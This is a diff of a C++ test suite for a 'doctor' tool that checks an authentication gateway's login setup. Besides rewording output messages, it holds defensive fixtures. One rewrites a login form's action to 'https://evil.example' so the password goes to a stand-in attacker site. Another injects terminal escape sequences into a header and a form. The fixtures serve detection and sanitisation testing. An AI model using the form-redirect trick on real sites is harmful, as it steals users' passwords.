@@ -240,7 +240,8 @@ const std::vector<Mistake> kMistakes = {
          return only_if(request.method() == "POST" && request.url.path() == "/postern/logout" && !has_mode,
                         answer_with(403));
      })},
-    {"the form leads to another site", "form-elsewhere", way_out([](const Request& request, Answer& answer) {
+    {"the form sends the password to another site", "form-elsewhere",
+     way_out([](const Request& request, Answer& answer) {
          const auto at = answer.body.find("action=\"\"");
          if (is_login_page(request) && at != std::string::npos)
              answer.body.replace(at, 8, "action=\"https://evil.example");
@@ -317,7 +318,7 @@ TEST_CASE("doctor finds nothing wrong with a healthy site, and looks at everythi
     }
     CHECK(diagnosis.server == WebServer::Nginx);
     CHECK(diagnosis.subject ==
-          "Looked at the page " + kPage + " and its login page https://app.example.com/postern/.");
+          "Checked the page " + kPage + " and its login page https://app.example.com/postern/.");
     CHECK_FALSE(site.has_sessions());
     CHECK(has_sent_password(site));
 }
@@ -328,9 +329,9 @@ TEST_CASE("doctor finds each mistake, and no other", "[doctor]") {
         GatedSite site;
         mistake.make(site);
         const Diagnosis diagnosis = site.examine();
-        CAPTURE(as_text(diagnosis));
+        CAPTURE(as_text(diagnosis, true));
         CHECK(found_in(diagnosis) == std::vector<std::string_view>{mistake.name});
-        CHECK_THAT(as_text(diagnosis), !Catch::Contains("jtp"));
+        CHECK_THAT(as_text(diagnosis, true), !Catch::Contains("jtp"));
         if (std::string_view(mistake.sentence) != "cookies are hidden") CHECK_FALSE(site.has_sessions());
     }
 }
@@ -398,7 +399,7 @@ TEST_CASE("doctor finds nothing wrong with what a healthy site may have besides"
         };
     }
     const Diagnosis diagnosis = site.examine(page);
-    CAPTURE(as_text(diagnosis));
+    CAPTURE(as_text(diagnosis, true));
     CHECK(found_in(diagnosis).empty());
     CHECK_FALSE(site.has_sessions());
 }
@@ -416,7 +417,7 @@ TEST_CASE("doctor does not take the parameters of Vouch's snippet for a part of 
                        "&vouch-failcount=&X-Vouch-Token=&error=");
     };
     const Diagnosis diagnosis = site.examine({.page = *parse_url(kPage)});
-    CAPTURE(as_text(diagnosis));
+    CAPTURE(as_text(diagnosis, true));
     CHECK(diagnosis.has(Fault::TargetLost) == !reads_vouch);
     CHECK(found_in(diagnosis).size() == (reads_vouch ? 0 : 1));
 }
@@ -428,7 +429,7 @@ TEST_CASE("doctor says a word of a WebDAV folder, and finds nothing wrong with i
     };
     const Diagnosis diagnosis = site.examine();
     CHECK(found_in(diagnosis).empty());
-    CHECK(diagnosis.verdict_of(Fault::RuleInDav) == Verdict::NotLookedAt);
+    CHECK(diagnosis.verdict_of(Fault::RuleInDav) == Verdict::NotRun);
     CHECK_THAT(diagnosis.text_of(Fault::RuleInDav), Catch::Contains("WebDAV folder"));
 }
 
@@ -475,7 +476,7 @@ TEST_CASE("what ails a page is found behind an address without https, too", "[do
         name = "not-protected";
     }
     const Diagnosis diagnosis = site.examine("http://app.example.com/private/page");
-    CAPTURE(as_text(diagnosis));
+    CAPTURE(as_text(diagnosis, true));
     CHECK(found_in(diagnosis) == std::vector<std::string_view>{name});
 }
 
@@ -510,8 +511,8 @@ TEST_CASE("the login page itself is examined as such", "[doctor]") {
     GatedSite site;
     const Diagnosis diagnosis = site.examine("https://app.example.com/postern/");
     CHECK(diagnosis.is_well());
-    CHECK(diagnosis.subject == "Looked at the login page https://app.example.com/postern/.");
-    CHECK(diagnosis.verdict_of(Fault::NotProtected) == Verdict::NotLookedAt);
+    CHECK(diagnosis.subject == "Checked the login page https://app.example.com/postern/.");
+    CHECK(diagnosis.verdict_of(Fault::NotProtected) == Verdict::NotRun);
     CHECK(diagnosis.verdict_of(Fault::CookieLost) == Verdict::Fine);
     CHECK(diagnosis.verdict_of(Fault::SessionLeft) == Verdict::Fine);
     CHECK_FALSE(site.has_sessions());
@@ -522,9 +523,21 @@ TEST_CASE("a stranger learns what a stranger can, and is told the rest", "[docto
     const Diagnosis diagnosis = site.examine({.page = *parse_url(kPage)});
     CHECK(diagnosis.is_well());
     CHECK(diagnosis.verdict_of(Fault::BodyNotOff) == Verdict::Fine);
-    CHECK(diagnosis.verdict_of(Fault::CookieLost) == Verdict::NotLookedAt);
-    CHECK_THAT(as_text(diagnosis), Catch::Contains("Not looked at, as nobody signed in (--user EMAIL):"));
+    CHECK(diagnosis.verdict_of(Fault::CookieLost) == Verdict::NotRun);
+    CHECK_THAT(as_text(diagnosis, true),
+               Catch::Contains("Not run, because doctor did not sign in (--user EMAIL):"));
+    CHECK_THAT(as_text(diagnosis, false), Catch::EndsWith(" checks ran; more with --user EMAIL\n"));
     CHECK_FALSE(has_sent_password(site));
+}
+
+TEST_CASE("the advice names every argument that is missing, and no argument that is there", "[doctor]") {
+    GatedSite site;
+    const std::string login = "https://app.example.com/postern/";
+    CHECK(site.examine({.page = *parse_url(login)}).advice ==
+          std::vector<std::string>{"more with --user EMAIL and the address of a protected page"});
+    CHECK(site.examine(login).advice ==
+          std::vector<std::string>{"more with the address of a protected page"});
+    CHECK(site.examine().advice.empty());
 }
 
 TEST_CASE("the password goes to no site that was not named, nor in clear", "[doctor]") {
@@ -605,7 +618,7 @@ TEST_CASE("the session is shown to the login page's origin alone, and to none in
         for (const auto& [name, value] : request.headers)
             CHECK(value.find(token) == std::string::npos);
     }
-    CHECK(diagnosis.verdict_of(Fault::SignOutFails) == Verdict::NotLookedAt);
+    CHECK(diagnosis.verdict_of(Fault::SignOutFails) == Verdict::NotRun);
     CHECK_FALSE(site.has_sessions());
 }
 
@@ -626,7 +639,7 @@ TEST_CASE("doctor signs out when the site fails in between", "[doctor]") {
         site.instead = [&](const Request& request) {
             Answer none;
             none.silence = Silence::GivenUp;
-            none.reason = "the time for the whole examination is over";
+            none.reason = "doctor ran out of time for the whole examination";
             return only_if(is_signed_in && !request.is_for_sign_out, none);
         };
         CHECK(site.examine().is_well());
@@ -652,7 +665,7 @@ TEST_CASE("a site that was not asked any more is not ill", "[doctor]") {
             return only_if(site.requests().size() > asked && !request.is_for_sign_out, none);
         };
         const Diagnosis diagnosis = site.examine();
-        CAPTURE(asked, as_text(diagnosis));
+        CAPTURE(asked, as_text(diagnosis, true));
         CHECK(found_in(diagnosis).empty());
         CHECK_FALSE(site.has_sessions());
     }
@@ -686,15 +699,15 @@ TEST_CASE("what a site sends is shown harmlessly and without secrets", "[doctor]
     };
     const Diagnosis diagnosis = site.examine();
     CHECK(found_in(diagnosis) == std::vector<std::string_view>{"lands-elsewhere"});
-    CHECK_THAT(as_text(diagnosis) + as_json(diagnosis), !Catch::Contains("jtp"));
-    CHECK_THAT(as_text(diagnosis), Catch::Contains("[hidden]"));
+    CHECK_THAT(as_text(diagnosis, true) + as_json(diagnosis), !Catch::Contains("jtp"));
+    CHECK_THAT(as_text(diagnosis, true), Catch::Contains("[hidden]"));
 
     GatedSite rude;
     rude.on_the_way_out = [](const Request&, Answer& answer) {
         set_header(answer, "Location", "\x1b]0;mine\x07");
         answer.body = "<form method=post action='\x1b[2J//'><input name=email><input name=password>";
     };
-    CHECK_THAT(as_text(rude.examine()), !Catch::Contains("\x1b") && !Catch::Contains("\x07"));
+    CHECK_THAT(as_text(rude.examine(), true), !Catch::Contains("\x1b") && !Catch::Contains("\x07"));
 }
 
 TEST_CASE("no site keeps doctor busy for ever", "[doctor]") {
